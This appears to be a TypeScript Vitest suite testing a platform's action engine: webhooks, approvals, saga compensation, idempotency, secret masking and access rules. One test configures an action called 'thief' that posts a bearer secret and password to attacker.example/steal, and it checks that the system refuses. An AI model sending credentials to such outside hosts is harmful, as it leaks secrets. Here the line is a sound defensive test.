import { afterAll, beforeAll, beforeEach, describe, expect, inject, it } from 'vitest';
import { createUser } from './support/access-world.ts';
import { ActionReceiver } from './support/action-receiver.ts';
import { databases } from './support/databases.ts';
import { execute, putAction, type RunBody, runIn } from './support/run-helpers.ts';
import { TestServer } from './support/test-server.ts';

describe.each(databases(inject('postgresUrl')))('actions on %s', (_name, create) => {
  if (!create) {
    it.skip('skipped: no PostgreSQL server starts on this machine', () => {});
    return;
  }
  let server: TestServer;
  let receiver: ActionReceiver;
  let drop: (() => Promise<void>) | undefined;
  let alice: { token: string };
  let bob: { token: string };

  beforeAll(async () => {
    receiver = await ActionReceiver.start();
    const { db, drop: dropDatabase } = await create();
    drop = dropDatabase;
    server = await TestServer.start({
      ...(db === undefined ? {} : { db }),
      flags: { egressHosts: [receiver.host] },
    });
    alice = await createUser(server, 'alice', 'developer');
    bob = await createUser(server, 'bob', 'platform-engineer');
    await server.post('/api/v1/entities', {
      kind: 'Service',
      metadata: { name: 'shop' },
      spec: {},
    });
  });
  afterAll(async () => {
    await server?.stop();
    await receiver?.stop();
    await drop?.();
  });
  beforeEach(() => {
    receiver.answer = () => undefined;
    receiver.requests.length = 0;
    receiver.effects.length = 0;
  });

  it('sends a webhook with the inputs, and maps the answer', async () => {
    await putAction(server, 'notify', {
      type: 'webhook',
      config: {
        url: `${receiver.url}/services/\${{ inputs.service }}/notify`,
        headers: { 'x-run': '${{ run.id }}' },
        outputs: { ticket: '/ticket/id' },
      },
      inputs: [
        { name: 'service', type: 'select', entityKind: 'Service', required: true },
        { name: 'count', type: 'number', default: 3 },
      ],
    });
    receiver.answer = () => ({ body: { ticket: { id: 'T-1' } } });
    const run = await execute(server, 'notify', { inputs: { service: 'shop' } }, alice);
    expect(run.inputs).toEqual({ service: 'shop', count: 3 });
    const over = await runIn(server, run.id, 'succeeded');
    expect(over.outputs).toEqual({ statusCode: 200, ticket: 'T-1' });
    const [request] = receiver.requests;
    expect(request).toMatchObject({
      method: 'POST',
      path: '/services/shop/notify',
      headers: { 'x-run': run.id, 'idempotency-key': `${run.id}/main/0` },
    });
    expect(JSON.parse(request?.text ?? '')).toEqual({ inputs: { service: 'shop', count: 3 } });
    const log = await server.get<{ lines: { message: string }[]; isOver: boolean }>(
      `/api/v1/runs/${run.id}/log`,
    );
    expect(log.body.isOver).toBe(true);
    expect(log.body.lines.map(({ message }) => message)).toContain(
      `${receiver.host} answered 200.`,
    );
  });

  it('names everything that is wrong with inputs at once, and starts nothing', async () => {
    await putAction(server, 'strict', {
      type: 'webhook',
      effect: 'destructive',
      config: { url: receiver.url },
      inputs: [
        { name: 'service', type: 'select', entityKind: 'Service', required: true },
        { name: 'environment', type: 'select', options: ['a', 'b'], required: true },
        { name: 'count', type: 'number' },
      ],
    });
    const answer = await server.post<{ code: string; details: { problems: object[] } }>(
      '/api/v1/actions/strict/execute',
      { inputs: { service: 'missing', count: 'many', extra: 1 } },
    );
    expect(answer.status).toBe(400);
    expect(answer.body.code).toBe('INVALID_INPUT');
    expect(answer.body.details.problems).toEqual(
      expect.arrayContaining([
        { pointer: '/confirm', message: 'must be true: this action is destructive' },
        { pointer: '/inputs/environment', message: 'is required' },
        { pointer: '/inputs/count', message: 'must be a number' },
        { pointer: '/inputs/extra', message: 'unknown field "extra"' },
        { pointer: '/inputs/service', message: 'there is no Service/missing' },
      ]),
    );
    expect(receiver.requests).toEqual([]);
  });

  it('waits for the approval of somebody else, and does what was asked for then', async () => {
    await putAction(server, 'release', {
      type: 'webhook',
      config: { url: `${receiver.url}/release` },
      inputs: [{ name: 'version', type: 'string', required: true }],
      permissions: { requireApproval: true },
    });
    const run = await execute(server, 'release', { inputs: { version: '1' } }, alice);
    expect(run.state).toBe('awaiting-approval');
    const approve = (as: { token: string }, body: object) =>
      server.post<RunBody & { code: string }>(`/api/v1/runs/${run.id}/approve`, body, { as });
    const own = await approve(alice, { reason: 'me' });
    expect([own.status, own.body.code]).toEqual([403, 'FORBIDDEN']);
    const other = await approve(bob, { reason: 'seen', digest: 'of something else' });
    expect([other.status, other.body.code]).toEqual([409, 'RUN_NOT_AS_SHOWN']);
    const waiting = await server.get<{ id: string }[]>('/api/v1/runs/awaiting', { as: bob });
    expect(waiting.body.map(({ id }) => id)).toContain(run.id);
    expect((await approve(bob, { reason: 'seen', digest: run.digest })).status).toBe(200);
    expect((await runIn(server, run.id, 'succeeded')).state).toBe('succeeded');
    const twice = await approve(bob, { reason: 'again' });
    expect([twice.status, twice.body.code]).toEqual([409, 'RUN_NOT_AWAITED']);
    expect(receiver.effects).toHaveLength(1);
  });

  it('runs steps with outputs passed on, waits, takes signals, and takes back what failed', async () => {
    const step = (id: string, more: object = {}) => ({
      id,
      type: 'webhook',
      retries: 0,
      config: { url: `${receiver.url}/${id}`, outputs: { value: '/value' } },
      ...more,
    });
    const undo = (id: string) => ({
      compensate: { type: 'webhook', config: { url: `${receiver.url}/undo-${id}` } },
    });
    await putAction(server, 'saga', {
      steps: [
        step('first', undo('first')),
        { id: 'pause', type: 'wait', config: { for: '200ms' } },
        { id: 'merged', type: 'signal', config: { name: 'merged' } },
        step('second', {
          config: {
            url: `${receiver.url}/second`,
            body: {
              from: '${{ steps.first.outputs.value }}',
              by: '${{ steps.merged.outputs.payload.by }}',
            },
          },
          ...undo('second'),
        }),
        step('third'),
      ],
      outputs: { value: '${{ steps.first.outputs.value }}!' },
    });
    let isBroken = true;
    receiver.answer = ({ path }) =>
      path === '/third' && isBroken ? { status: 500 } : { body: { value: path } };
    const run = await execute(server, 'saga', {}, alice);
    await expect
      .poll(async () => {
        const { steps } = (await server.get<RunBody>(`/api/v1/runs/${run.id}`)).body;
        return steps.find(({ id }) => id === 'merged')?.state;
      })
      .toBe('waiting');
    const signal = `/api/v1/runs/${run.id}/signals/merged`;
    const sent = await server.post(signal, { payload: { by: 'carol' } }, { as: alice });
    expect(sent.body).toEqual({ accepted: true });
    const failed = await runIn(server, run.id, 'failed');
    expect(failed.error).toMatchObject({ code: 'WEBHOOK_REFUSED' });
    expect(receiver.requests.map(({ path }) => path)).toEqual([
      '/first',
      '/second',
      '/third',
      '/undo-second',
      '/undo-first',
    ]);
    expect(JSON.parse(receiver.requests[1]?.text ?? '')).toEqual({ from: '/first', by: 'carol' });

    isBroken = false;
    receiver.requests.length = 0;
    const retried = await server.post(`/api/v1/runs/${run.id}/retry`, undefined, { as: alice });
    expect(retried.status).toBe(202);
    const done = await runIn(server, run.id, 'succeeded');
    expect(done.outputs).toEqual({ value: '/first!' });
    expect(receiver.requests.map(({ path }) => path)).toEqual(['/first', '/second', '/third']);
    expect(receiver.requests[0]?.headers['idempotency-key']).toBe(`${run.id}/first/1`);
  });

  it('tries again under the same key when the other side is away', async () => {
    await putAction(server, 'flaky', {
      steps: [{ id: 'one', type: 'webhook', config: { url: `${receiver.url}/flaky` } }],
    });
    let calls = 0;
    receiver.answer = () => (++calls === 1 ? { status: 503 } : undefined);
    const run = await execute(server, 'flaky');
    await runIn(server, run.id, 'succeeded');
    expect(receiver.requests.map(({ headers }) => headers['idempotency-key'])).toEqual([
      `${run.id}/one/0`,
      `${run.id}/one/0`,
    ]);
  });

  it('answers the same key with the same run', async () => {
    await putAction(server, 'once', {
      type: 'webhook',
      config: { url: `${receiver.url}/once` },
      inputs: [{ name: 'n', type: 'number' }],
    });
    const ask = (n: number) =>
      server.post<RunBody & { code: string }>(
        '/api/v1/actions/once/execute',
        { inputs: { n }, idempotencyKey: 'k-1' },
        { as: alice },
      );
    const [first, second] = await Promise.all([ask(1), ask(1)]);
    expect([first.status, second.status].sort()).toEqual([200, 201]);
    expect(second.body.id).toBe(first.body.id);
    expect((await ask(2)).body.code).toBe('RUN_KEY_REUSED');
    await runIn(server, first.body.id, 'succeeded');
    expect(receiver.effects).toHaveLength(1);
  });

  it('cancels what is under way', async () => {
    await putAction(server, 'slow', { type: 'webhook', config: { url: `${receiver.url}/slow` } });
    receiver.answer = () => 'hang';
    const run = await execute(server, 'slow', {}, alice);
    await expect.poll(() => receiver.requests.length).toBe(1);
    expect(
      (await server.post(`/api/v1/runs/${run.id}/cancel`, undefined, { as: alice })).status,
    ).toBe(202);
    const over = await runIn(server, run.id, 'cancelled');
    expect(over.steps[0]?.state).toBe('unknown');
  });

  it('fails what nothing runs, and never says that it worked', async () => {
    await putAction(server, 'flux', { type: 'flux-update', config: {} });
    const answer = await server.post<{ code: string }>('/api/v1/actions/flux/execute');
    expect([answer.status, answer.body.code]).toEqual([409, 'ACTION_NOT_RUNNABLE']);
    const { body } = await server.get<{ problems: object[]; mayRun: boolean }>(
      '/api/v1/actions/flux',
    );
    expect(body).toMatchObject({
      mayRun: false,
      problems: [{ pointer: '/spec/type', message: 'nothing here runs "flux-update"' }],
    });
  });

  it('masks secret inputs everywhere and sends secrets only to their hosts', async () => {
    const secret = 'tok-5ecret-value';
    await server.put('/api/v1/action-secrets/deploy-token', {
      value: secret,
      hosts: [receiver.host],
    });
    const config = (url: string) => ({
      url,
      headers: { authorization: { secret: 'deploy-token', prefix: 'Bearer ' } },
      sign: { secret: 'deploy-token' },
      body: { password: '${{ inputs.password }}' },
    });
    const inputs = [{ name: 'password', type: 'secret', required: true }];
    await putAction(server, 'secretive', {
      steps: [{ id: 'one', type: 'webhook', config: config(`${receiver.url}/s`) }],
      inputs,
    });
    await putAction(server, 'thief', {
      type: 'webhook',
      config: config('https://attacker.example/steal'),
      inputs,
    });
    receiver.answer = ({ headers, text }) => ({ body: { echo: [headers.authorization, text] } });
    const run = await execute(server, 'secretive', { inputs: { password: 'pa55-word-here' } });
    const over = await runIn(server, run.id, 'succeeded');
    expect(receiver.requests[0]?.headers.authorization).toBe(`Bearer ${secret}`);
    expect(receiver.requests[0]?.headers['webhook-signature']).toMatch(/^v1,/);
    expect(JSON.parse(receiver.requests[0]?.text ?? '')).toEqual({ password: 'pa55-word-here' });
    const shown = JSON.stringify([
      over,
      (await server.get(`/api/v1/runs/${run.id}/log`)).body,
      (await server.get('/api/v1/audit?limit=200')).body,
      (await server.get('/api/v1/events?limit=1000')).body,
    ]);
    expect(shown).not.toContain(secret);
    expect(shown).not.toContain('pa55-word-here');
    const stolen = await execute(server, 'thief', { inputs: { password: 'pa55-word-here' } });
    const refused = await runIn(server, stolen.id, 'failed');
    expect(refused.error?.code).toBe('SECRET_HOST_REFUSED');
  });

  it('changes entities with the rights of whoever asks, and no more', async () => {
    await putAction(server, 'rename', {
      type: 'internal',
      config: {
        operation: 'update-entity',
        entity: 'Service/${{ inputs.service }}',
        set: { metadata: { title: '${{ inputs.title }}' } },
      },
      inputs: [
        { name: 'service', type: 'string', required: true },
        { name: 'title', type: 'string', required: true },
      ],
    });
    await server.post('/api/v1/rbac/rules', {
      id: 'frozen',
      effect: 'deny',
      subjects: ['user:alice'],
      verbs: ['write'],
      resources: ['catalog'],
      namespaces: ['frozen'],
    });
    await server.post('/api/v1/entities', {
      kind: 'Service',
      metadata: { name: 'cold', namespace: 'frozen' },
      spec: {},
    });
    const ok = await execute(
      server,
      'rename',
      { inputs: { service: 'shop', title: 'Shop!' } },
      alice,
    );
    await runIn(server, ok.id, 'succeeded');
    const { body } = await server.get<{ metadata: { title: string } }>(
      '/api/v1/entities/Service/shop',
    );
    expect(body.metadata.title).toBe('Shop!');
    const no = await execute(
      server,
      'rename',
      { inputs: { service: 'frozen/cold', title: 'Hot' } },
      alice,
    );
    expect((await runIn(server, no.id, 'failed')).error?.code).toBe('FORBIDDEN');
  });

  it('plans without doing anything, and refuses a request when the action has changed', async () => {
    await putAction(server, 'planned', {
      type: 'webhook',
      config: { url: `${receiver.url}/planned` },
      inputs: [{ name: 'n', type: 'number', default: 1 }],
    });
    const { body: plan } = await server.post<{ digest: string; steps: { plan: string }[] }>(
      '/api/v1/actions/planned/plan',
      {},
      { as: alice },
    );
    expect(plan.steps[0]?.plan).toBe(`POST ${receiver.url}/planned with {"inputs":{"n":1}}`);
    expect(receiver.requests).toEqual([]);
    await server.patch('/api/v1/entities/Action/planned', {
      spec: { config: { url: `${receiver.url}/other` } },
    });
    const answer = await server.post<{ code: string }>(
      '/api/v1/actions/planned/execute',
      { digest: plan.digest },
      { as: alice },
    );
    expect([answer.status, answer.body.code]).toEqual([409, 'ACTION_CHANGED']);
  });
});
